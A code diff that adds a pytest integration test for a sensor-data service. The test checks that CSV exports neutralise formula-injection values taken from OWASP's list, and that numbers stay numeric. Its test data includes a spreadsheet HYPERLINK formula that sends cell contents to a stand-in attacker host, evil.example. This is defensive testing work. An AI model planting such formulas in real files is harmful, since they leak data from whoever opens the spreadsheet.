@@ -1,5 +1,7 @@
 """Readings sent through gateway-http, indexed by the pipeline, read back through the data API and the proxy."""
 
+import csv
+import io
 import time
 
 import pytest
@@ -101,6 +103,30 @@ def test_csv_format(sensors):
     lines = response.text.strip().splitlines()
     assert lines[0] == "timestamp,value"
     assert lines[1:] == [f"{ts},{value}" for ts, (_, value) in zip(EXPECTED_TIMESTAMPS, READINGS)]
+
+
+# Keyword readings a device chose to look like formulas (OWASP's CSV injection triggers), and ones that do not.
+HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1", -5, "@SUM(A1)", "\t=1", "\r=1", "a;=1+1", "open"]
+
+
+def test_csv_keeps_keyword_text_from_running_as_a_formula_and_numbers_as_numbers(services, new_user):
+    owner = new_user()
+    device = owner.create_device("door")
+    label = owner.create_sensor(device["id"], "state", {"type": "keyword"})
+    temp = owner.create_sensor(device["id"], "temperature", {"type": "double"})
+    key = owner.device_key(device["id"])["token"]
+    body = [{"sensor_id": label["id"], "timestamp": BASE + i, "value": value} for i, value in enumerate(HOSTILE)]
+    body.append({"sensor_id": temp["id"], "timestamp": BASE, "value": -5})
+    sent = requests.post(services["gateway"] + "/", json=body, headers={"Authorization": f"Bearer {key}"}, timeout=30)
+    assert sent.status_code == 200, sent.text
+    _wait_for(owner, label["id"], len(HOSTILE))
+    _wait_for(owner, temp["id"], 1)
+    text = owner.request("GET", f"/api/sensors/{label['id']}/data", params={"format": "csv", "order": "asc"}).text
+    assert [value for _, value in list(csv.reader(io.StringIO(text)))[1:]] == [
+        '\'=HYPERLINK("https://evil.example/?"&A1,"x")', "'+1", "'-5", "'@SUM(A1)", "'\t=1", "'\r=1", "a;=1+1", "open"]
+    assert text.splitlines()[-1] == '"2025-11-28T03:20:07.000000000Z","open"'  # text cells are quoted whole
+    numbers = owner.request("GET", f"/api/sensors/{temp['id']}/data", params={"format": "csv"}).text
+    assert numbers.splitlines()[1:] == [f"{EXPECTED_TIMESTAMPS[0]},-5.0"]  # a number, not text
 
 
 @pytest.mark.parametrize("params, fragment", [
